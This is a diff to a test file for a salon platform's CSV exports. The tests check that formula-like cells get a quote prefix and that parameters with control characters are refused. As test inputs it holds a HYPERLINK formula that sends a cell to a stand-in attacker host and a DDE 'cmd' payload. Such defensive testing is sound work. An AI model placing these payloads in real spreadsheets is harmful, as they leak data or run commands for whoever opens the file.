@@ -1,12 +1,18 @@
+import { appointmentMessages } from '@piiq/domain/appointments';
+import { SHEET_COLUMNS } from '@piiq/domain/catalogue-sheet';
+import { leadMessages } from '@piiq/domain/leads';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createAppointment, createOrder, createStaffMember, createUser, grantSalonAccess } from '../test/factories.ts';
-import { signedInSalonAdmin } from '../test/sign-in.ts';
+import { betaLeads } from '../db/schema/signup.ts';
+import { CONTROL_CHARACTERS_MESSAGE } from '../graphql/control-characters.ts';
+import { createAppointment, createBrand, createCatalogueProduct, createOrder, createStaffMember, createUser, grantSalonAccess } from '../test/factories.ts';
+import { signedInSalonAdmin, signInAs } from '../test/sign-in.ts';
 import { startTestServer, type TestServer } from '../test/test-server.ts';
 
 let test: TestServer;
+const errorLogLines: string[] = [];
 beforeAll(async () => {
-  test = await startTestServer();
+  test = await startTestServer({ logger: { level: 'error', stream: { write: (line: string) => void errorLogLines.push(line) } } });
 });
 afterAll(() => test.close());
 const db = () => test.server.database.db;
@@ -67,5 +73,149 @@ describe('CSV exports', () => {
       expect(refused.response.statusCode).toBe(404);
     }
     expect((await download('/exports/not-a-salon/orders.csv', stranger.cookie)).response.statusCode).toBe(404);
+  });
+});
+
+/** What a client may call themselves: spreadsheets would run it, sending the row's neighbours away. */
+const FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Open")';
+
+async function signedInProviderStaff() {
+  const staff = await createUser(db(), { isProviderStaff: true });
+  return signInAs(test, staff.email);
+}
+
+describe('a cell that would run as a formula', () => {
+  it('is written after a single quote in the appointments', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
+    const client = await createUser(db(), { name: FORMULA, profileRole: 'Client' });
+    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
+    const stylist = await createStaffMember(db(), salon.id, { name: '-Mia' });
+    await createAppointment(db(), salon.id, { clientId: client.id, staffId: stylist.id, createdAt: new Date('2026-02-05T02:45:00Z') });
+
+    const { rows } = await download(`/exports/${salon.id}/appointments.csv`, cookie);
+    expect(rows[1]).toEqual([`'${FORMULA}`, '1', '05/02/2026 13:45', "'-Mia", 'N/A', 'N/A']);
+  });
+
+  it('is written after a single quote in the clients', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
+    const client = await createUser(db(), { name: FORMULA, profileRole: 'Client' });
+    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
+    const stylist = await createStaffMember(db(), salon.id, { name: '@Mia' });
+    await createAppointment(db(), salon.id, { clientId: client.id, staffId: stylist.id, createdAt: new Date('2026-02-05T02:45:00Z') });
+
+    const { rows } = await download(`/exports/${salon.id}/clients.csv`, cookie);
+    expect(rows[1]).toEqual([`'${FORMULA}`, '1', '05/02/2026 13:45', "'@Mia", client.id]);
+  });
+
+  it('is written after a single quote in the stylists', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test);
+    const stylist = await createStaffMember(db(), salon.id, { name: "+cmd|' /C calc'!A0" });
+    await createAppointment(db(), salon.id, { staffId: stylist.id });
+
+    const { rows } = await download(`/exports/${salon.id}/stylists.csv?view=all`, cookie);
+    expect(rows[1]).toEqual(["'+cmd|' /C calc'!A0", '1', '0', '0', '0%', '0%']);
+  });
+
+  it('is written after a single quote in the orders, and a price stays a number', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test);
+    await createOrder(db(), salon.id, [{ productName: 'Shampoo', quantity: 1, totalCents: 3495 }], { firstName: FORMULA, lastName: '', email: '@evil.example' });
+
+    const { rows } = await download(`/exports/${salon.id}/orders.csv`, cookie);
+    expect(rows[1]?.slice(2)).toEqual(["'@evil.example", `'${FORMULA}`, '34.95', '0.00', '34.95', 'AUD']);
+  });
+
+  it('is written after a single quote in the leads', async () => {
+    const cookie = await signedInProviderStaff();
+    await db()
+      .insert(betaLeads)
+      .values({ betaName: FORMULA, betaEmail: 'lead@example.com', betaSalonName: '\tTab Hair', betaPhone: '+61412345678', plan: 'GROWTH', notes: '\r=1+1', createdAt: new Date('2026-11-03T01:00:00Z') });
+
+    const { response, rows } = await download('/exports/leads.csv', cookie);
+    expect(response.statusCode).toBe(200);
+    expect(rows.slice(1)).toEqual([['03/11/2026 12:00', `'${FORMULA}`, 'lead@example.com', "'\tTab Hair", "'+61412345678", 'GROWTH', 'New', "'\r=1+1"]]);
+  });
+
+  it('is written after a single quote in the catalogue, whose sheet still imports back unchanged', async () => {
+    const cookie = await signedInProviderStaff();
+    const brand = await createBrand(db(), { name: `@Evil Botanics ${Date.now()}` });
+    const product = await createCatalogueProduct(db(), brand.id, {
+      productName: FORMULA,
+      description: '-Gentle on colour',
+      bullets: ['+Shine', 'Soft'],
+      directions: "'=Already quoted",
+      ingredients: '\uFF1DFull width',
+      productSize: '250ml',
+    });
+
+    const response = await test.server.app.inject({ url: `/exports/catalogue.csv?brandId=${brand.id}`, headers: { cookie } });
+    const rows = parse(response.body, { bom: true }) as string[][];
+    const cells = Object.fromEntries(SHEET_COLUMNS.map((column, index) => [column.header, rows[1]?.[index]]));
+    expect(cells).toMatchObject({
+      SKU: product.sku,
+      Brand: `'${brand.name}`,
+      ProductName: `'${FORMULA}`,
+      ProductSize: '250ml',
+      Description: "'-Gentle on colour",
+      Bullets: "'+Shine|Soft",
+      Directions: "''=Already quoted",
+      Ingredients: "'\uFF1DFull width",
+      RRPAU: '34.95',
+    });
+
+    const preview = await test.server.app.inject({
+      method: 'POST',
+      url: '/console/catalogue/sheet?apply=false',
+      headers: { 'content-type': 'text/csv', cookie, 'x-piiq-csrf': '1', origin: 'http://localhost:3000' },
+      payload: response.body,
+    });
+    expect(preview.json()).toMatchObject({ problems: [], created: 0, updated: 0, unchanged: 1 });
+  });
+});
+
+describe('an export’s parameters', () => {
+  async function refusal(url: string, cookie?: string) {
+    const response = await test.server.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });
+    const body = response.json() as { errors: Array<{ message: string; extensions: { code: string } }> };
+    return { status: response.statusCode, message: body.errors[0]?.message, code: body.errors[0]?.extensions.code };
+  }
+
+  it('are refused with a 400 when a text holds a control character, as the GraphQL fields refuse it, before the database is asked and with nothing logged', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test);
+    const providerCookie = await signedInProviderStaff();
+    errorLogLines.length = 0;
+    const refused = [
+      [`/exports/${salon.id}/appointments.csv?search=%00`, cookie],
+      [`/exports/${salon.id}/appointments.csv?search=Zo%1B&navParam=TODAY`, cookie],
+      [`/exports/${salon.id}/appointments.csv?navParam=TODAY%00`, cookie],
+      [`/exports/${salon.id}/clients.csv?search=%00`, cookie],
+      [`/exports/${salon.id}/clients.csv?search=a%07b`, cookie],
+      [`/exports/${salon.id}/stylists.csv?view=all%00`, cookie],
+      ['/exports/leads.csv?search=%00', providerCookie],
+      ['/exports/leads.csv?search=Ben%08&status=NEW', providerCookie],
+      ['/exports/leads.csv?status=NEW%00', providerCookie],
+      ['/exports/catalogue.csv?brandId=%00', providerCookie],
+      // Refused on its own text alone: the session is not even looked up.
+      [`/exports/${salon.id}/appointments.csv?search=%00`, undefined],
+    ] as const;
+    for (const [url, withCookie] of refused) {
+      expect(await refusal(url, withCookie), url).toEqual({ status: 400, message: CONTROL_CHARACTERS_MESSAGE, code: 'BAD_USER_INPUT' });
+    }
+    expect(errorLogLines).toEqual([]);
+  });
+
+  it('are read by the same rules as the GraphQL fields’ arguments', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test);
+    const providerCookie = await signedInProviderStaff();
+    const longSearch = 'a'.repeat(201);
+    expect(await refusal(`/exports/${salon.id}/appointments.csv?search=${longSearch}`, cookie)).toEqual({ status: 400, message: appointmentMessages.searchTooLong, code: 'BAD_USER_INPUT' });
+    expect(await refusal(`/exports/${salon.id}/clients.csv?search=${longSearch}`, cookie)).toEqual({ status: 400, message: appointmentMessages.searchTooLong, code: 'BAD_USER_INPUT' });
+    expect(await refusal(`/exports/leads.csv?search=${longSearch}`, providerCookie)).toEqual({ status: 400, message: leadMessages.searchTooLong, code: 'BAD_USER_INPUT' });
+    expect(await refusal('/exports/catalogue.csv?brandId=not-a-brand', providerCookie)).toMatchObject({ status: 400, code: 'BAD_USER_INPUT' });
+    // A search sent twice is no search the field could take.
+    expect(await refusal(`/exports/${salon.id}/clients.csv?search=a&search=b`, cookie)).toMatchObject({ status: 400, code: 'BAD_USER_INPUT' });
+
+    // A tab is text (text areas send it), and the search is trimmed as the list trims it.
+    expect((await download(`/exports/${salon.id}/clients.csv?search=%09Zo%20`, cookie)).response.statusCode).toBe(200);
+    expect((await download(`/exports/leads.csv?search=${'a'.repeat(200)}`, providerCookie)).response.statusCode).toBe(200);
   });
 });
